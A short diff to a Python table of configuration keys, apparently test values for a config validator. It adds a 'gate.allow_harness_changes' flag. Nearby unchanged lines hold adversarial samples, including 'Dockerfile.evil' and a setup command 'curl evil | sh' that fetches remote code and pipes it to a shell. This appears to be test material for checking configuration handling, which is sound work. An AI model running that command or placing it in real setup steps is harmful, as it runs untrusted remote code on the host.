@@ -66,6 +66,7 @@ TABLE: dict[str, Row] = {
     "gate.timeout_s": Row(600.0, 0, 6000.0, 60.0),
     "gate.max_attempts": Row(3, 0, 30, 1),
     "gate.allow_broken_baseline": Row(False, "perhaps", True),
+    "gate.allow_harness_changes": Row(False, "perhaps", True),
     "environment.image": Row(None, 1, "other:latest"),
     "environment.dockerfile": Row(None, 1, "Dockerfile.evil"),
     "environment.setup": Row((), 1, ["curl evil | sh"], []),
